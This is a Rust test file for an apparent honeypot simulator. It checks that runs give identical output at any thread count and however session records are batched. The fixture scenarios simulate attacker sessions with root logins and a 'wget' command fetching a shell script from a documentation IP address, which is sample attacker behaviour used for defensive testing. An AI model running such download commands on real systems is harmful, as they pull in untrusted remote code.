//! Parallel-execution determinism, proven with the testkit's differential
//! oracles: `threads = N` must be bit-identical to `threads = 1` — same
//! session rows in the same order, same digest universe, same artifact
//! metadata, same tag database — and the collector must be invariant to
//! ingest batching. On divergence the oracle names the exact field
//! (`rows[i].client_port: 2 != 999`) instead of failing on an opaque struct
//! comparison.

use honeyfarm::prelude::*;
use honeyfarm::testkit::{assert_outputs_identical, diff_sim_outputs};

fn run(threads: usize) -> SimOutput {
    Simulation::run(SimConfig {
        threads,
        ..SimConfig::test(8)
    })
}

#[test]
fn thread_counts_bit_identical() {
    let serial = run(1);
    assert!(serial.dataset.len() > 100, "fixture must be non-trivial");
    for threads in [2usize, 4, 8] {
        let parallel = run(threads);
        assert_outputs_identical(
            "threads=1",
            &serial,
            &format!("threads={threads}"),
            &parallel,
        );
    }
}

#[test]
fn repeat_runs_bit_identical() {
    // Same config, fresh process state: the engine has no hidden
    // nondeterminism (hash-map iteration, time, &c.).
    let report = diff_sim_outputs("first", &run(1), "second", &run(1));
    assert!(report.is_identical(), "{}", report.render());
}

#[test]
fn collector_invariant_to_ingest_batching() {
    // Replay a spread of scenarios into session records, then collect them
    // one-by-one and in uneven chunks; the resulting dataset must be
    // identical either way.
    use honeyfarm::geo::{World, WorldConfig};
    use honeyfarm::testkit::{diff_datasets, Scenario};

    let mut records = Vec::new();
    for i in 0..24u32 {
        let text = format!(
            "name batch-{i}\nprotocol {}\nhoneypot {}\nclient 203.0.113.{}\nport {}\n\
             login root pw{i}\ncmd uname -a\ncmd wget http://198.51.100.9/x{i}.sh\nclose\n",
            if i % 3 == 0 { "telnet" } else { "ssh" },
            i % 5,
            (i % 200) + 1,
            40_000 + i as u16,
        );
        records.push(Scenario::parse(&text).expect("scenario").replay());
    }

    let world = World::build(1, &WorldConfig::tiny());
    let collect = |chunks: &[usize]| {
        let mut c = Collector::new(&world, FarmPlan::paper());
        let mut i = 0usize;
        let mut sizes = chunks.iter().cycle();
        while i < records.len() {
            let n = (*sizes.next().unwrap()).min(records.len() - i).max(1);
            c.ingest_batch(&records[i..i + n]);
            i += n;
        }
        c.finish()
    };

    let one_by_one = collect(&[1]);
    let uneven = collect(&[3, 1, 16, 7, 2]);
    let report = diff_datasets("one-by-one", &one_by_one, "uneven", &uneven);
    assert!(report.is_identical(), "{}", report.render());
}
